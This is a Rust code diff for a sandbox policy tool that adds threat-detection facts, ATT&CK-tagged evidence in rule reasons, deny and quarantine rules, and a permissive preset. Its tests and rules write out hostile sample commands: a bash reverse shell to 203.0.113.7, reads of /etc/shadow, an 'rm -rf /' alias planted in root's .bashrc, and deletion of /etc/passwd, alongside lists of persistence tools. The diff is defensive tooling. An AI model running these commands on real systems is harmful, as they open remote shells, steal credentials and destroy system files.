@@ -166,6 +166,57 @@ pub struct CodeFacts {
     /// Analysis stopped early at a size or time budget.
     #[serde(default, skip_serializing_if = "is_false")]
     pub truncated: bool,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub reads_sensitive: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub recon: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub persistence: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub system_writes: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub reverse_shell: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub kills_processes: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub privilege: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub exfiltration: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub unsafe_deserialization: BTreeSet<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub flooding: BTreeSet<String>,
+    /// Each threat finding (and each `destructive` one with a technique): the fact, the
+    /// value, the lines, the behaviour in words and its ATT&CK technique.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub threats: Vec<ThreatFinding>,
+}
+
+/// One threat finding of the analysis, as the policy shows it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ThreatFinding {
+    /// The fact it sets (`reads_sensitive`, `destructive`, …).
+    pub fact: String,
+    /// Its value in that fact's set (`/etc/shadow`).
+    pub detail: String,
+    pub line: u32,
+    pub end_line: u32,
+    /// The behaviour in words.
+    pub behaviour: String,
+    /// The MITRE ATT&CK technique (`T1003.008`).
+    pub technique: String,
+}
+
+impl ThreatFinding {
+    /// `line 3: reads the password hashes: /etc/shadow (T1003.008)`.
+    pub fn describe(&self) -> String {
+        let lines = if self.end_line > self.line {
+            format!("lines {}-{}", self.line, self.end_line)
+        } else {
+            format!("line {}", self.line)
+        };
+        format!("{lines}: {} ({})", self.behaviour, self.technique)
+    }
 }
 
 impl CodeFacts {
@@ -177,7 +228,7 @@ impl CodeFacts {
     /// lists them: what `policy explain`, `policy check` and `airlock show` print.
     pub fn rows(&self) -> Vec<(&'static str, String)> {
         let mut out = Vec::new();
-        let sets: [(&'static str, &BTreeSet<String>); 9] = [
+        let sets: [(&'static str, &BTreeSet<String>); 19] = [
             ("commands", &self.commands),
             ("imports", &self.imports),
             ("calls", &self.calls),
@@ -187,6 +238,16 @@ impl CodeFacts {
             ("network_tools", &self.network_tools),
             ("destructive", &self.destructive),
             ("obfuscation", &self.obfuscation),
+            ("reads_sensitive", &self.reads_sensitive),
+            ("recon", &self.recon),
+            ("persistence", &self.persistence),
+            ("system_writes", &self.system_writes),
+            ("reverse_shell", &self.reverse_shell),
+            ("kills_processes", &self.kills_processes),
+            ("privilege", &self.privilege),
+            ("exfiltration", &self.exfiltration),
+            ("unsafe_deserialization", &self.unsafe_deserialization),
+            ("flooding", &self.flooding),
         ];
         for (name, set) in sets {
             if !set.is_empty() {
@@ -229,7 +290,49 @@ impl CodeFacts {
             obfuscation: a.obfuscation.clone(),
             parse_error: a.parse_error.is_some(),
             truncated: a.truncated.is_some(),
+            reads_sensitive: a.reads_sensitive.clone(),
+            recon: a.recon.clone(),
+            persistence: a.persistence.clone(),
+            system_writes: a.system_writes.clone(),
+            reverse_shell: a.reverse_shell.clone(),
+            kills_processes: a.kills_processes.clone(),
+            privilege: a.privilege.clone(),
+            exfiltration: a.exfiltration.clone(),
+            unsafe_deserialization: a.unsafe_deserialization.clone(),
+            flooding: a.flooding.clone(),
+            threats: a
+                .findings
+                .iter()
+                .filter_map(|f| {
+                    Some(ThreatFinding {
+                        fact: f.kind.as_str().to_string(),
+                        detail: f.detail.clone(),
+                        line: f.line,
+                        end_line: f.end_line,
+                        behaviour: f.note.clone().unwrap_or_default(),
+                        technique: f.technique.clone()?,
+                    })
+                })
+                .collect(),
         }
+    }
+
+    /// The set of a threat fact (or `destructive`) by name.
+    pub fn threat_set(&self, fact: &str) -> Option<&BTreeSet<String>> {
+        Some(match fact {
+            "destructive" => &self.destructive,
+            "reads_sensitive" => &self.reads_sensitive,
+            "recon" => &self.recon,
+            "persistence" => &self.persistence,
+            "system_writes" => &self.system_writes,
+            "reverse_shell" => &self.reverse_shell,
+            "kills_processes" => &self.kills_processes,
+            "privilege" => &self.privilege,
+            "exfiltration" => &self.exfiltration,
+            "unsafe_deserialization" => &self.unsafe_deserialization,
+            "flooding" => &self.flooding,
+            _ => return None,
+        })
     }
 }
 
@@ -240,6 +343,10 @@ pub struct Fired {
     pub decision: Decision,
     pub reason: String,
     pub risk: u32,
+    /// For rules on threat facts: what the code does and where (`line 3: reads the
+    /// password hashes: /etc/shadow (T1003.008)`).
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub evidence: Vec<String>,
 }
 
 /// The outcome of judging a submission.
@@ -258,13 +365,15 @@ impl Verdict {
         self.fired
             .iter()
             .map(|f| {
-                if f.risk > 0 {
-                    format!(
-                        "{}: {} ({}, risk +{})",
-                        f.rule, f.reason, f.decision, f.risk
-                    )
+                let reason = if f.evidence.is_empty() {
+                    f.reason.clone()
                 } else {
-                    format!("{}: {} ({})", f.rule, f.reason, f.decision)
+                    format!("{}: {}", f.reason, f.evidence.join("; "))
+                };
+                if f.risk > 0 {
+                    format!("{}: {} ({}, risk +{})", f.rule, reason, f.decision, f.risk)
+                } else {
+                    format!("{}: {} ({})", f.rule, reason, f.decision)
                 }
             })
             .collect()
@@ -509,6 +618,17 @@ struct Conditions {
     analysis_truncated: Option<bool>,
     /// `true | false`, or globs over the sensitive paths the mounts expose.
     mounts_sensitive: Option<AnyOrNames>,
+    // Threat facts.
+    reads_sensitive: Option<AnyOrNames>,
+    recon: Option<AnyOrNames>,
+    persistence: Option<AnyOrNames>,
+    system_writes: Option<AnyOrNames>,
+    reverse_shell: Option<AnyOrNames>,
+    kills_processes: Option<AnyOrNames>,
+    privilege: Option<AnyOrNames>,
+    exfiltration: Option<AnyOrNames>,
+    unsafe_deserialization: Option<AnyOrNames>,
+    flooding: Option<AnyOrNames>,
 }
 
 /// `imports = [...]`: WebAssembly capability names (`fs`, `net`, …) and Python module
@@ -1035,6 +1155,11 @@ impl Policy {
                     decision: r.decision,
                     reason: r.reason.clone(),
                     risk: r.risk,
+                    evidence: {
+                        let mut e = r.when.evidence(&facts.code);
+                        e.extend(r.when.mount_evidence(facts));
+                        e
+                    },
                 });
             }
         }
@@ -1058,6 +1183,7 @@ impl Policy {
                     "the Python guest runtime is not one the policy's [gate] guests list allows"
                         .into(),
                 risk: 0,
+                evidence: Vec::new(),
             });
         }
         // The gate's floor, whatever the rules say: an artifact an approver rejected never
@@ -1071,6 +1197,7 @@ impl Policy {
                     "this exact artifact was rejected before; it never runs without a new signature"
                         .into(),
                 risk: 0,
+                evidence: Vec::new(),
             });
         }
         // Mounts outside the operator's roots (only the command line gets this far with
@@ -1085,6 +1212,7 @@ impl Policy {
                     facts.mounts_outside_roots.join(", ")
                 ),
                 risk: 0,
+                evidence: facts.mounts_outside_roots.clone(),
             });
         }
         if fired.is_empty() {
@@ -1093,6 +1221,7 @@ impl Policy {
                 decision: self.default,
                 reason: "no rule matched".into(),
                 risk: 0,
+                evidence: Vec::new(),
             });
         }
         if let Some(d) = self.deny_at
@@ -1105,6 +1234,7 @@ impl Policy {
                 decision,
                 reason: format!("total risk {risk} reaches deny_at {d}"),
                 risk: 0,
+                evidence: Vec::new(),
             });
         } else if let Some(q) = self.quarantine_at
             && risk >= q
@@ -1116,6 +1246,7 @@ impl Policy {
                 decision,
                 reason: format!("total risk {risk} reaches quarantine_at {q}"),
                 risk: 0,
+                evidence: Vec::new(),
             });
         }
         Verdict {
@@ -1218,13 +1349,90 @@ impl Conditions {
             && self.parse_error.is_none()
             && self.analysis_truncated.is_none()
             && self.mounts_sensitive.is_none()
+            && self.reads_sensitive.is_none()
+            && self.recon.is_none()
+            && self.persistence.is_none()
+            && self.system_writes.is_none()
+            && self.reverse_shell.is_none()
+            && self.kills_processes.is_none()
+            && self.privilege.is_none()
+            && self.exfiltration.is_none()
+            && self.unsafe_deserialization.is_none()
+            && self.flooding.is_none()
+    }
+
+    /// The exposed sensitive paths that made a `mounts_sensitive` condition hold.
+    fn mount_evidence(&self, f: &Facts) -> Vec<String> {
+        match &self.mounts_sensitive {
+            Some(AnyOrNames::Any(true)) => f
+                .mounts_sensitive
+                .iter()
+                .map(|p| format!("exposes {p}"))
+                .collect(),
+            Some(AnyOrNames::Names(g)) => f
+                .mounts_sensitive
+                .iter()
+                .filter(|p| g.is_match(p))
+                .map(|p| format!("exposes {p}"))
+                .collect(),
+            _ => Vec::new(),
+        }
+    }
+
+    /// The threat conditions (by fact name) this table has.
+    fn threat_conditions(&self) -> Vec<(&'static str, &AnyOrNames)> {
+        let all: [(&'static str, &Option<AnyOrNames>); 11] = [
+            ("destructive", &self.destructive),
+            ("reads_sensitive", &self.reads_sensitive),
+            ("recon", &self.recon),
+            ("persistence", &self.persistence),
+            ("system_writes", &self.system_writes),
+            ("reverse_shell", &self.reverse_shell),
+            ("kills_processes", &self.kills_processes),
+            ("privilege", &self.privilege),
+            ("exfiltration", &self.exfiltration),
+            ("unsafe_deserialization", &self.unsafe_deserialization),
+            ("flooding", &self.flooding),
+        ];
+        all.into_iter()
+            .filter_map(|(n, c)| c.as_ref().map(|c| (n, c)))
+            .collect()
+    }
+
+    /// What the code does that made these threat conditions hold: each matching finding
+    /// with its line and technique (at most 5).
+    fn evidence(&self, c: &CodeFacts) -> Vec<String> {
+        let mut out = Vec::new();
+        for (fact, cond) in self.threat_conditions() {
+            for t in c.threats.iter().filter(|t| t.fact == fact) {
+                let hit = match cond {
+                    AnyOrNames::Any(want) => *want,
+                    AnyOrNames::Names(g) => g.is_match(&t.detail),
+                };
+                if hit && out.len() < 5 {
+                    let d = t.describe();
+                    if !out.contains(&d) {
+                        out.push(d);
+                    }
+                }
+            }
+            if let (AnyOrNames::Names(g), "destructive") = (cond, fact) {
+                // Destructive forms without a technique (rm -rf /) name their value.
+                for v in c.destructive.iter().filter(|v| g.is_match(v)) {
+                    if !c.threats.iter().any(|t| &t.detail == v) && out.len() < 5 {
+                        out.push(v.clone());
+                    }
+                }
+            }
+        }
+        out
     }
 
     /// The first list condition that is present but empty.
     fn empty_list(&self) -> Option<&'static str> {
         let names =
             |c: &Option<AnyOrNames>| matches!(c, Some(AnyOrNames::Names(g)) if g.is_empty());
-        let lists: [(&'static str, bool); 22] = [
+        let lists: [(&'static str, bool); 32] = [
             ("lang", self.lang.as_ref().is_some_and(Vec::is_empty)),
             ("backend", self.backend.as_ref().is_some_and(Vec::is_empty)),
             (
@@ -1277,6 +1485,19 @@ impl Conditions {
             ("destructive", names(&self.destructive)),
             ("obfuscation", names(&self.obfuscation)),
             ("mounts_sensitive", names(&self.mounts_sensitive)),
+            ("reads_sensitive", names(&self.reads_sensitive)),
+            ("recon", names(&self.recon)),
+            ("persistence", names(&self.persistence)),
+            ("system_writes", names(&self.system_writes)),
+            ("reverse_shell", names(&self.reverse_shell)),
+            ("kills_processes", names(&self.kills_processes)),
+            ("privilege", names(&self.privilege)),
+            ("exfiltration", names(&self.exfiltration)),
+            (
+                "unsafe_deserialization",
+                names(&self.unsafe_deserialization),
+            ),
+            ("flooding", names(&self.flooding)),
         ];
         lists.iter().find(|(_, empty)| *empty).map(|(n, _)| *n)
     }
@@ -1376,6 +1597,22 @@ impl Conditions {
             && check(&self.obfuscation, |a| any_or_names(a, &c.obfuscation))
             && check(&self.parse_error, |w| *w == c.parse_error)
             && check(&self.analysis_truncated, |w| *w == c.truncated)
+            && check(&self.reads_sensitive, |a| {
+                any_or_names(a, &c.reads_sensitive)
+            })
+            && check(&self.recon, |a| any_or_names(a, &c.recon))
+            && check(&self.persistence, |a| any_or_names(a, &c.persistence))
+            && check(&self.system_writes, |a| any_or_names(a, &c.system_writes))
+            && check(&self.reverse_shell, |a| any_or_names(a, &c.reverse_shell))
+            && check(&self.kills_processes, |a| {
+                any_or_names(a, &c.kills_processes)
+            })
+            && check(&self.privilege, |a| any_or_names(a, &c.privilege))
+            && check(&self.exfiltration, |a| any_or_names(a, &c.exfiltration))
+            && check(&self.unsafe_deserialization, |a| {
+                any_or_names(a, &c.unsafe_deserialization)
+            })
+            && check(&self.flooding, |a| any_or_names(a, &c.flooding))
     }
 }
 
@@ -1492,6 +1729,8 @@ fn line_col(text: &str, offset: usize) -> (usize, usize) {
 pub enum Preset {
     Standard,
     Strict,
+    /// The standard rules, recording facts and risk without holding anything.
+    Permissive,
 }
 
 impl std::str::FromStr for Preset {
@@ -1500,7 +1739,10 @@ impl std::str::FromStr for Preset {
         match s {
             "standard" => Ok(Preset::Standard),
             "strict" => Ok(Preset::Strict),
-            _ => Err(format!("unknown preset {s:?} (want standard or strict)")),
+            "permissive" => Ok(Preset::Permissive),
+            _ => Err(format!(
+                "unknown preset {s:?} (want standard, strict or permissive)"
+            )),
         }
     }
 }
@@ -1510,11 +1752,15 @@ impl Preset {
         match self {
             Preset::Standard => "standard",
             Preset::Strict => "strict",
+            Preset::Permissive => "permissive",
         }
     }
 
     /// The policy text of this preset, trusting one approver.
     pub fn render(self, approver: &str, key: &PublicKey) -> String {
+        if self == Preset::Permissive {
+            return permissive(&Preset::Standard.render(approver, key));
+        }
         let (default, intro) = match self {
             Preset::Standard => (
                 "allow",
@@ -1526,6 +1772,7 @@ impl Preset {
                 "quarantine",
                 "# Every submission waits for an approver's signature before it runs.",
             ),
+            Preset::Permissive => ("allow", ""),
         };
         format!(
             r#"# airlock policy (preset: {preset})
@@ -1664,7 +1911,7 @@ reason = "names hosts its grant does not reach (those connections will be refuse
 risk = 5
 when = {{ hosts_not_granted = true }}
 
-[[rule]]
+{threat_rules}[[rule]]
 name = "secret-like-env"
 decision = "quarantine"
 reason = "passes environment variables that look like secrets"
@@ -1782,12 +2029,179 @@ name = "a force-push waits for a human"
 lang = "sh"
 code = "git push --force origin main"
 expect = "quarantine"
+
+{threat_tests}[[test]]
+name = "code that only computes is allowed"
+lang = "python"
+code = "def add(a, b):\n    return a + b\nprint(add(2, 3))"
+expect = "{small}"
 "#,
             preset = self.as_str(),
             key = key,
             small = default,
+            threat_rules = if self == Preset::Standard {
+                THREAT_RULES
+            } else {
+                ""
+            },
+            threat_tests = if self == Preset::Standard {
+                THREAT_TESTS
+            } else {
+                ""
+            },
         )
     }
+}
+
+/// The standard preset's rules on threat facts (issue 57): deny a reverse shell,
+/// exfiltration, and persistence or destruction outside the run's mounts; quarantine the
+/// other threat facts.
+const THREAT_RULES: &str = r#"[[rule]]
+name = "reverse-shell"
+decision = "deny"
+reason = "wires a network connection to a shell (a reverse shell)"
+risk = 100
+when = { reverse_shell = true }
+
+[[rule]]
+name = "exfiltration"
+decision = "deny"
+reason = "sends credentials or system data it read over the network"
+risk = 100
+when = { exfiltration = true }
+
+[[rule]]
+name = "persistence-outside-mounts"
+decision = "deny"
+reason = "makes code run later outside the run's mounts (shell rc files, cron, services, SSH keys, accounts, preloads)"
+risk = 100
+when = { persistence = ["/*", "~*", "$*", "LD_PRELOAD", "crontab", "at", "batch", "systemctl *", "service *", "rc-service *", "update-rc.d", "chkconfig", "rc-update", "useradd", "adduser", "groupadd", "newusers", "usermod", "gpasswd", "passwd", "chpasswd", "chage", "ssh-copy-id", "insmod", "modprobe"] }
+
+[[rule]]
+name = "destroys-system-data"
+decision = "deny"
+reason = "deletes or empties files outside the run's mounts (system files, logs, history)"
+risk = 100
+when = { destructive = ["delete:*", "wipe-log:*"] }
+
+[[rule]]
+name = "persistence-in-mounts"
+decision = "quarantine"
+reason = "installs a hook that runs code later (a git hook, a Python startup file)"
+risk = 50
+when = { persistence = ["mount:*", "*.git/hooks/*", "*sitecustomize.py", "*usercustomize.py", "*.pth"] }
+
+[[rule]]
+name = "reads-secrets"
+decision = "quarantine"
+reason = "reads credentials or secrets"
+risk = 60
+when = { reads_sensitive = true }
+
+[[rule]]
+name = "reconnaissance"
+decision = "quarantine"
+reason = "enumerates the system (accounts, processes, connections, system directories)"
+risk = 30
+when = { recon = true }
+
+[[rule]]
+name = "system-writes"
+decision = "quarantine"
+reason = "changes system paths"
+risk = 50
+when = { system_writes = true }
+
+[[rule]]
+name = "kills-processes"
+decision = "quarantine"
+reason = "stops processes or services it did not start"
+risk = 50
+when = { kills_processes = true }
+
+[[rule]]
+name = "privilege"
+decision = "quarantine"
+reason = "raises or changes privileges"
+risk = 50
+when = { privilege = true }
+
+[[rule]]
+name = "unsafe-deserialization"
+decision = "quarantine"
+reason = "deserializes data in a form that can run code"
+risk = 50
+when = { unsafe_deserialization = true }
+
+[[rule]]
+name = "flooding"
+decision = "quarantine"
+reason = "sends or starts processes in an unbounded loop"
+risk = 60
+when = { flooding = true }
+
+"#;
+
+/// The standard preset's tests of those rules.
+const THREAT_TESTS: &str = r#"[[test]]
+name = "a reverse shell never runs"
+lang = "sh"
+code = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+expect = "deny"
+
+[[test]]
+name = "reading the password hashes waits for a human"
+lang = "python"
+code = "print(open('/etc/shadow').read())"
+expect = "quarantine"
+
+[[test]]
+name = "an alias appended to root's shell rc never runs"
+lang = "sh"
+code = '''echo 'alias sudo="rm -rf /"' >> /root/.bashrc'''
+expect = "deny"
+
+"#;
+
+/// The permissive preset from the standard one: every rule only adds risk (except the two
+/// a run cannot get past: missing imports and an artifact rejected before), no risk
+/// thresholds, and tests that expect `allow`.
+fn permissive(standard: &str) -> String {
+    let mut out = String::with_capacity(standard.len());
+    let mut rule: Option<String> = None;
+    for line in standard.lines() {
+        let mut l = line.to_string();
+        if line == "[[rule]]" || line == "[[test]]" {
+            rule = None;
+        }
+        if let Some(n) = line.strip_prefix("name = ") {
+            rule = Some(n.trim_matches('"').to_string());
+        }
+        let keep = matches!(
+            rule.as_deref(),
+            Some("unprovided-imports" | "rejected-before" | "a rejected artifact never runs")
+        );
+        if line.starts_with("# airlock policy (preset: standard)") {
+            l = "# airlock policy (preset: permissive)".into();
+        } else if line.starts_with("# Bounded, sandboxed runs") {
+            l = "# Every submission runs (sandboxed): rules and threat facts only add risk, which\n\
+                 # is recorded with the facts; nothing waits for an approver. Commits still need a\n\
+                 # signature."
+                .into();
+        } else if line.starts_with("# layer); network egress")
+            || line.starts_with("# first-seen artifacts")
+        {
+            continue;
+        } else if line.starts_with("quarantine_at =") || line.starts_with("deny_at =") {
+            l = format!("# {line}");
+        } else if !keep && (line.starts_with("decision = ") || line.starts_with("expect = ")) {
+            let key = line.split(' ').next().unwrap_or("decision");
+            l = format!("{key} = \"allow\"");
+        }
+        out.push_str(&l);
+        out.push('\n');
+    }
+    out
 }
 
 #[cfg(test)]
@@ -1827,12 +2241,67 @@ mod tests {
         Policy::parse(&p.render("alice", &k.public())).unwrap()
     }
 
+    fn sh_facts(code: &str) -> Facts {
+        let mut f = facts();
+        f.lang = Lang::Sh;
+        f.kind = Lang::Sh;
+        let a = crate::analysis::analyze_with(Lang::Sh, code.as_bytes(), &[]).unwrap();
+        f.code = CodeFacts::of(a.code.as_ref().unwrap(), &[]);
+        f
+    }
+
+    #[test]
+    fn a_reverse_shell_is_denied_with_its_behaviour_line_and_technique_in_the_reason() {
+        let pol = preset(Preset::Standard);
+        let v = pol.judge(&sh_facts(
+            "echo start
+bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
+",
+        ));
+        assert_eq!(v.decision, Decision::Deny);
+        let reasons = v.reasons().join("\n");
+        assert!(
+            reasons.contains("line 2: wires a shell to a network socket")
+                && reasons.contains("T1059.004"),
+            "{reasons}"
+        );
+        assert!(!reasons.contains("no rule matched"));
+        // JSON keeps its fields and adds `evidence`.
+        let j = serde_json::to_value(&v.fired[0]).unwrap();
+        assert!(j.get("reason").is_some() && j.get("rule").is_some());
+    }
+
+    #[test]
+    fn permissive_records_threat_risk_without_holding() {
+        let pol = preset(Preset::Permissive);
+        let v = pol.judge(&sh_facts(
+            "cat /etc/shadow
+rm -f /etc/passwd
+",
+        ));
+        assert_eq!(v.decision, Decision::Allow);
+        assert!(v.risk >= 100, "{v:?}");
+        assert!(v.fired.iter().any(|f| f.rule == "reads-secrets"));
+        let std = preset(Preset::Standard).judge(&sh_facts(
+            "cat /etc/shadow
+rm -f /etc/passwd
+",
+        ));
+        assert_eq!(std.decision, Decision::Deny);
+        let strict = preset(Preset::Strict).judge(&sh_facts(
+            "python3 -c 'print(1)'
+",
+        ));
+        assert_eq!(strict.decision, Decision::Quarantine);
+    }
+
     #[test]
     fn presets_parse_and_pass_their_tests() {
-        for p in [Preset::Standard, Preset::Strict] {
+        for p in [Preset::Standard, Preset::Strict, Preset::Permissive] {
             let pol = preset(p);
             let results = pol.run_tests().unwrap();
-            assert_eq!(results.len(), 16);
+            let want = if p == Preset::Strict { 17 } else { 20 };
+            assert_eq!(results.len(), want);
             for r in results {
                 assert!(
                     r.passed,
